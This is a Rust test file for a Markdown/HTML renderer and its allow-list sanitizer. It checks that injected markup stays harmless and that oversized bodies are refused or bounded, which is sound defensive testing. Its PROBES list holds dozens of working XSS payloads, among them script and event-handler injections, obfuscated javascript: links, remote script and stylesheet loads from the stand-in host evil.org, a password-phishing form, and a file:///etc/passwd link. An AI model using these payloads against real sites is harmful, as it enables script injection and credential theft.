//! What attackers write is harmless, and what is costly is refused or bounded.

use scraper::{Html, Node};

use super::*;

#[path = "../../tests/bench/costly.rs"]
mod costly;

fn nobody(_: &str) -> Option<String> {
    None
}

/// Bodies that try to leave the text and become markup, script or an address
/// that acts.
const PROBES: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.org/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.org><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.org/>",
    "<meta http-equiv=refresh content='0;url=https://evil.org'>",
    "<link rel=stylesheet href=https://evil.org/x.css>",
    "<style>@import 'https://evil.org/x.css';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=token name=token href=/logout>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "</p></div></article><h1>Official</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.org/1)",
    "[x](ftp://a.org/1)",
    "[x](intent://a#Intent;scheme=http;end)",
    "[x](//evil.org)",
    "[x](/\\evil.org)",
    "[x](\\/evil.org)",
    "[x](/&#9;/evil.org)",
    "[x](///evil.org)",
    "[x](https://bank.org@evil.org)",
    "[x](https:evil)",
    "[x](#top)",
    "[x](?next=1)",
    "[x]()",
    "[](https://a.org)",
    "[x](https://a.org \"onmouseover=alert(1)\")",
    "[x](https://a.org '\" onmouseover=alert(1) x=\"')",
    "[x](https://a.org/\"onmouseover=alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.org/pixel.gif)",
    "![\"onerror=\"alert(1)](https://evil.org/x)",
    "[![x](https://a.org/i)](javascript:alert(1))",
    "[![x](javascript:alert(1))](https://a.org)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "https://a.org/\"onmouseover=\"alert(1)",
    "https://a.org/<script>alert(1)</script>",
    "www.a.org/'onclick='alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"onclick=alert(1)\nx\n```",
    "```html\" onmouseover=\"alert(1)\n<script>\n```",
    "```a b\u{0}c\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "a | <img src=x onerror=alert(1)>\n-|-\n<b onclick=alert(1)> | [x](javascript:1)",
    "# <img src=x onerror=alert(1)> {#id .class onclick=x}",
    "> <script>alert(1)\n> </script>",
    "- <iframe src=//evil.org>\n  - [x](javascript:1)",
    "99999999999. <script>x</script>",
    "@\"><img src=x onerror=alert(1)>",
    "\u{feff}<script>alert(1)</script>",
    "\u{0}<\u{0}script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "[x](mailto:a@b.org?bcc=all@b.org&body=hi)",
    "[x](mailto:a@b.org%0d%0aBcc:c@d.org)",
    "<https://a.org/\u{202e}gpj.exe>",
];

const TAGS: &[&str] = &[
    "html",
    "head",
    "body",
    "a",
    "bdi",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

fn assert_harmless(source: &str, html: &str) {
    for node in Html::parse_document(html).tree.nodes() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Text(_) | Node::Document | Node::Doctype(_) => continue,
            other => panic!("{other:?} of {source:?}"),
        };
        let tag = element.name();
        assert!(TAGS.contains(&tag), "<{tag}> of {source:?}: {html}");
        for (name, value) in element.attrs() {
            let allowed = match (tag, name) {
                ("a", "href") => {
                    let local = value.starts_with('/') && !value.starts_with("//") && !value.contains('\\');
                    let schemed =
                        ["https://", "http://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                    (local || schemed) && !value.contains(char::is_control)
                }
                ("a", "rel") => value == "nofollow ugc noopener noreferrer",
                ("code", "class") => value.starts_with("language-") && !value.contains(' '),
                ("ol", "start") => value.bytes().all(|b| b.is_ascii_digit()),
                ("html" | "head" | "body", _) => false,
                (_, "dir") => matches!(value, "auto" | "ltr"),
                _ => false,
            };
            assert!(allowed, "{tag} {name}={value:?} of {source:?}");
        }
        if tag == "a" {
            assert!(element.attr("href").is_some(), "{source:?}: {html}");
            assert!(element.attr("rel").is_some(), "{source:?}: {html}");
        }
    }
    assert_eq!(sanitize::clean(html), html, "fixed point: {source:?}");
}

#[test]
fn every_probe_is_harmless_wherever_it_stands() {
    for probe in PROBES {
        let quoted = probe.replace('\n', "\n> ");
        for body in [
            (*probe).to_owned(),
            format!("Text before\n\n{probe}\n\nand after"),
            format!("> {quoted}"),
            format!("*{probe}*"),
            format!("[{probe}](https://a.org)"),
            format!("![{probe}](https://a.org)"),
        ] {
            let everyone = |name: &str| Some(name.to_owned());
            if let Ok(rendered) = render(&body, &everyone) {
                assert_harmless(&body, &rendered.html);
                for link in &rendered.links {
                    assert!(link.starts_with("http"), "{link}");
                }
            }
        }
    }
}

#[test]
fn the_allow_list_alone_stops_every_probe() {
    for probe in PROBES {
        let cleaned = sanitize::clean(probe);
        assert_eq!(sanitize::clean(&cleaned), cleaned, "fixed point: {probe:?}");
        for forbidden in ["<script", "<img", "<svg", "onerror=alert(1)>", "<form", "style="] {
            let active = cleaned.contains(forbidden);
            assert!(!active, "{forbidden} of {probe:?}: {cleaned}");
        }
    }
}

#[test]
fn what_is_typed_as_html_is_shown() {
    let html = render("<b>bold</b> and a < b", &nobody).unwrap().html;
    assert_eq!(html, "<p>&lt;b&gt;bold&lt;/b&gt; and a &lt; b</p>");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(400))]

    /// Any mixture of what means something to Markdown or HTML.
    #[test]
    fn any_mixture_is_harmless(
        pieces in proptest::collection::vec(
            proptest::sample::select(vec![
                "<", ">", "</", "/>", "<p", "<b>", "<!--", "-->", "<svg", "<a href=", "&", "&lt;", "&#",
                ";", "\"", "'", "=", "[", "]", "(", ")", "](", "![", "*", "**", "_", "~~", "`", "```",
                "|", "\n|-|-|\n", "- ", "1. ", "> ", "#", "# ", "@", "@name", "www.a.org", "https://a.b",
                "javascript:", "data:", "//", "/p/1", ":", "\n", "\n\n", "  ", "    ", "\t", "\\", "\r",
                "\u{202e}", "\u{301}", "\u{0}", "س", "ߒ", "é", "a", "onerror=", "1", "2*3", "،",
            ]),
            0..60,
        )
    ) {
        let body = pieces.concat();
        let everyone = |name: &str| Some(name.to_owned());
        if let Ok(rendered) = render(&body, &everyone) {
            assert_harmless(&body, &rendered.html);
        }
        assert!(mentions(&body).len() <= MAX_MENTIONS);
        assert!(body.starts_with(&sources_split(&body).0));
        let line = clean_line(&body);
        assert_eq!(clean_line(&line), line);
    }
}

/// How many times its source the HTML of a body may be. The worst is a quote
/// and an answer on every other line.
const MAX_GROWTH: usize = 10;

#[test]
fn the_costliest_bodies_are_refused_or_bounded() {
    let known = |name: &str| Some(name.to_owned());
    for (name, body) in costly::bodies(MAX_BODY_BYTES) {
        assert!(body.len() <= MAX_BODY_BYTES && body.len() > MAX_BODY_BYTES - 6_000, "{name}");
        match render(&body, &known) {
            Err(reason) => assert_ne!(reason, Unrenderable::TooLong, "{name}"),
            Ok(rendered) => {
                let grown = rendered.html.len();
                assert!(grown <= MAX_GROWTH * MAX_BODY_BYTES, "{name}: {grown} bytes");
                assert!(rendered.links.len() <= MAX_LINKS, "{name}");
                assert!(rendered.html.matches("<tr>").count() <= MAX_TABLE_ROWS, "{name}");
                assert!(depth(&rendered.html) <= 3 * MAX_NESTING, "{name}");
            }
        }
    }
}

fn depth(html: &str) -> usize {
    let tree = Html::parse_fragment(html).tree;
    tree.nodes().map(|node| node.ancestors().count()).max().unwrap_or(0)
}

#[test]
fn each_limit_refuses_the_first_body_over_it() {
    let outcome = |body: &str| render(body, &nobody).map(|_| ());
    let quotes = |n: usize| format!("{}a", ">".repeat(n));
    let links = |n: usize| "<http://a.org> ".repeat(n);
    let columns = |n: usize| format!("{}\n{}\n", "|a".repeat(n), "|-".repeat(n));
    let rows = |n: usize| format!("|a|b|\n|-|-|\n{}", "|1|2|\n".repeat(n - 1));
    let cases = [
        ("a".repeat(MAX_BODY_BYTES), "a".repeat(MAX_BODY_BYTES + 1), Unrenderable::TooLong),
        (quotes(MAX_NESTING), quotes(MAX_NESTING + 1), Unrenderable::TooDeep),
        (links(MAX_LINKS), links(MAX_LINKS + 1), Unrenderable::TooManyLinks),
        (columns(MAX_TABLE_COLUMNS), columns(MAX_TABLE_COLUMNS + 1), Unrenderable::TableTooLarge),
        (rows(MAX_TABLE_ROWS), rows(MAX_TABLE_ROWS + 1), Unrenderable::TableTooLarge),
    ];
    for (within, over, reason) in cases {
        assert_eq!(outcome(&within), Ok(()), "{reason:?}");
        assert_eq!(outcome(&over), Err(reason));
    }
}
